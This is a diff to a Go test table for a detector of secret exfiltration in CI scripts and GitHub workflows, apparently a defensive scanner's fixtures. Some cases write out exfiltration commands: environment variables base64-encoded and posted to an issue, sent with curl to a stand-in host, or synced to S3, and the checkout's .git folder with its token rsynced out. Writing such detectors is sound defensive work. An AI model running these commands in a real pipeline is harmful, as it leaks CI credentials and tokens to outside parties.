@@ -242,8 +242,12 @@ var registry = []Rule{
 			{"x.sh", "printenv | base64 > e.txt\ngh api -X POST repos/o/r/issues -F body=@e.txt", 2, false},
 			{"x.sh", "env > e.txt\ncurl --data-urlencode \"d@e.txt\" https://x.invalid/u", 2, false},
 			{"x.sh", "gh release create v1 --notes-file CHANGELOG.md dist/*", 0, true},
-			// A deploy of the checkout: what it sends is the site, not secrets the script wrote.
-			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete", 0, true},
+			// A deploy of the checkout that leaves .git out, or after a checkout
+			// that kept no token: what it sends is the site.
+			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete --exclude .git ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete --exclude '.git/*'", 0, true},
+			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/", 0, true},
+			// The checkout's .git folder, where the token is, sent anywhere.
+			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -az .git u@x.invalid:/x/", 7, false},
 			{"x.sh", "env > out/e.txt\naws s3 sync out s3://x-b", 2, false},
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
